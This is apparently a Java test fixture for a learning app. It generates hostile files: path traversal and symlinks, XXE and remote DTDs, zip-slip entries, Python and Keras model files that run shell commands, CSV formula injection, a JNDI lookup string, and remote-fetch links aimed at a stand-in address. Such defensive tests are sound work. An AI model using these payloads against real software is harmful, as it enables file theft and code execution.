package flattenlab.app;

import flattenlab.doctor.onnx.OnnxNet;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import onnx.Onnx;

/** Files that want something which is not theirs: other files, other computers, code that runs. */
final class HostileFiles {
    private final Path folder;
    private final String outside;
    private final String address;

    /**
     * @param folder where they are written
     * @param outside a folder beside it with a file {@code secret} of every kind, which nobody may touch
     * @param address of a computer that nobody may ask, such as {@code http://127.0.0.1:9}; empty for files without wishes
     */
    HostileFiles(Path folder, Path outside, String address) {
        this.folder = folder;
        this.outside = outside.toString().replace('\\', '/');
        this.address = address;
    }

    private boolean harmless() {
        return address.isEmpty();
    }

    private Path write(String name, String text) throws IOException {
        Path file = folder.resolve(name);
        Files.createDirectories(file.getParent());
        return Files.writeString(file, text);
    }

    void write() throws IOException {
        lessons();
        questions();
        models();
        others();
    }

    private void lessons() throws IOException {
        StringBuilder pictures = new StringBuilder();
        if (!harmless()) {
            for (String wish : new String[] {
                "../outside/secret.png",
                outside + "/secret.png",
                "file://" + outside + "/secret.png",
                "file://127.0.0.1/share/secret.png",
                "//127.0.0.1/share/secret.png",
                "\\\\\\\\127.0.0.1\\\\share\\\\secret.png",
                address + "/secret.png",
                "jar:" + address + "/secret.jar!/secret.png",
                "linked.png",
                "linked/secret.png"
            }) {
                pictures.append("![p](")
                        .append(wish)
                        .append(")\n\n[a](")
                        .append(wish)
                        .append(")\n\n");
            }
        }
        write(
                "course/1.md",
                "---\nid: one\ntitle: One\nnumber: 1\nminutes: 5\n---\n\n## See {see}\n\nRead \\(x^2\\).\n\n" + pictures
                        + "## Ask {why}\n\n```gift\nWhich? {=a ~b}\n```\n");
        if (!harmless()) {
            link("course/linked.png", "secret.png");
            link("course/linked", "");
            link("course/2.md", "secret.md");
            link("course/quiz.gift", "secret.gift");
        }
    }

    /** Where links can be made. */
    private void link(String name, String to) {
        try {
            Files.createSymbolicLink(folder.resolve(name), Path.of(outside).resolve(to));
        } catch (IOException | UnsupportedOperationException e) {
            return;
        }
    }

    private void questions() throws IOException {
        String wishes = harmless()
                ? ""
                : "<img src=\\\"" + address.replace(":", "\\:") + "/a.png\\\"><img src=\\\"file\\:///" + outside
                        + "/secret.png\\\"><link href=\\\"" + address.replace(":", "\\:")
                        + "/a.css\\\" rel=\\\"stylesheet\\\">"
                        + "<script src=\\\"" + address.replace(":", "\\:") + "/a.js\\\"></script>"
                        + "<p style=\\\"background\\: url(" + address.replace(":", "\\:") + "/b.png)\\\">"
                        + "\\\\(\\\\includegraphics\\{" + outside + "/secret.png\\}\\\\) \\\\(\\\\input\\{" + outside
                        + "/secret.md\\}\\\\)";
        write("q.gift", "::One::[html]<p>Which?</p>" + wishes + " {=a ~b}\n");
        String entities = harmless()
                ? ""
                : "<!DOCTYPE quiz [<!ENTITY f SYSTEM \"file://" + outside + "/secret.md\"><!ENTITY h SYSTEM \""
                        + address + "/a.xml\"><!ENTITY % p SYSTEM \"" + address + "/a.dtd\"> %p;]>";
        String entity = harmless()
                ? ""
                : "&f;&h;<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"" + address + "/a.xml\"/>";
        String question =
                "<question type=\"shortanswer\"><name><text>a</text></name><questiontext format=\"html\"><text>"
                        + "<![CDATA[<p>b <img src=\"@@PLUGINFILE@@/../../outside/secret.png\"><img src=\"" + address
                        + "/a.png\"></p>]]></text></questiontext><answer fraction=\"100\"><text>c</text></answer></question>";
        write("q.xml", "<?xml version=\"1.0\"?>\n<quiz>" + question + "</quiz>");
        write(
                "dtd.xml",
                "<?xml version=\"1.0\"?>\n" + entities + "<quiz>" + question.replace(">c<", ">" + entity + "<")
                        + "</quiz>");
        write(
                "location.xml",
                "<quiz xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:noNamespaceSchemaLocation=\""
                        + address + "/a.xsd\">" + question + "</quiz>");
    }

    private void models() throws IOException {
        String evil = harmless()
                ? ""
                : "import os, subprocess, ctypes, pickle\nfrom secret import *\nopen('" + outside
                        + "/secret.md').read()\n"
                        + "os.system('touch " + outside + "/done')\nsubprocess.run(['touch', '" + outside + "/done'])\n"
                        + "exec(open('" + outside + "/secret.py').read())\n__import__('secret')\ntorch.load('" + outside
                        + "/secret.pt')\ntorch.hub.load('" + address + "', 'x')\nopen('" + outside
                        + "/made', 'w').write('x')\n";
        String net =
                "import torch\nfrom torch import nn\nnet = nn.Sequential(nn.Conv2d(3, 8, 3), nn.Flatten(), nn.Linear(10, 2))\n"
                        + "net(torch.randn(4, 3, 8, 8))\n";
        write("net.py", evil + net);
        String cell = (harmless() ? "" : "!touch " + outside + "/done\n%run " + outside + "/secret.py\n") + evil + net;
        write(
                "net.ipynb",
                "{\"cells\":[{\"cell_type\":\"code\",\"metadata\":{},\"outputs\":[],\"source\":\""
                        + cell.replace("\\", "\\\\").replace("\"", "\\\"").replace("\n", "\\n")
                        + "\"}],\"metadata\":{},\"nbformat\":4,\"nbformat_minor\":5}");
        Files.write(folder.resolve("net.onnx"), onnx());
        String lambda = harmless()
                ? ""
                : ", {\"class_name\": \"Lambda\", \"config\": {\"function\": [\"4wEAAAA\", null, null], \"module\": \"os\"}},"
                        + " {\"class_name\": \"os.system\", \"module\": \"os\", \"registered_name\": \"" + outside
                        + "\","
                        + " \"config\": {\"command\": \"touch " + outside + "/done\"}}";
        String keras =
                "{\"class_name\": \"Sequential\", \"config\": {\"layers\": [{\"class_name\": \"InputLayer\", \"config\":"
                        + " {\"batch_shape\": [null, 8, 8, 3]}}, {\"class_name\": \"Flatten\", \"config\": {}}" + lambda
                        + "]}}";
        write("net.json", keras);
        try (OutputStream out = Files.newOutputStream(folder.resolve("net.keras"));
                ZipOutputStream zip = new ZipOutputStream(out)) {
            entry(zip, "config.json", keras);
            if (!harmless()) {
                entry(zip, "../outside/made", "x");
                entry(zip, outside + "/made", "x");
                entry(zip, "..\\outside\\made", "x");
            }
        }
    }

    private static void entry(ZipOutputStream zip, String name, String text) throws IOException {
        zip.putNextEntry(new ZipEntry(name));
        zip.write(text.getBytes(StandardCharsets.UTF_8));
    }

    /** Weights that lie in another file, as large models have them. */
    private byte[] onnx() throws IOException {
        OnnxNet net = new OnnxNet().input(-1, 3, 8, 8);
        net.node("Conv", List.of("x0", net.weights(4, 3, 3, 3)));
        net.node("Flatten", List.of("x1"));
        Onnx.ModelProto.Builder model = Onnx.ModelProto.parseFrom(net.bytes()).toBuilder();
        if (!harmless()) {
            for (String place : new String[] {"../outside/secret.md", outside + "/secret.md", address + "/weights"}) {
                model.getGraphBuilder()
                        .addInitializerBuilder()
                        .setName(place)
                        .setDataType(1)
                        .addDims(4)
                        .setDataLocation(Onnx.TensorProto.DataLocation.EXTERNAL)
                        .addExternalData(Onnx.StringStringEntryProto.newBuilder()
                                .setKey("location")
                                .setValue(place));
            }
        }
        return model.build().toByteArray();
    }

    private void others() throws IOException {
        String place = harmless() ? "digits" : outside;
        write("p.flattenlab.json", "{\"version\":5,\"data\":\"" + place + "\"}");
        write(
                "results/a.csv",
                "nickname,session,time,kind\n\"=cmd|'/c touch " + outside + "/done'!A1\",1,now,started\n");
        write(
                "xx/messages.properties",
                "app.title=" + (harmless() ? "x" : "${jndi:ldap:" + address.replace("http:", "") + "/a}") + "\n");
        write(
                "picture.svg",
                "<svg xmlns:xlink=\"http://www.w3.org/1999/xlink\"><image xlink:href=\"" + address
                        + "/a.png\"/></svg>");
    }
}
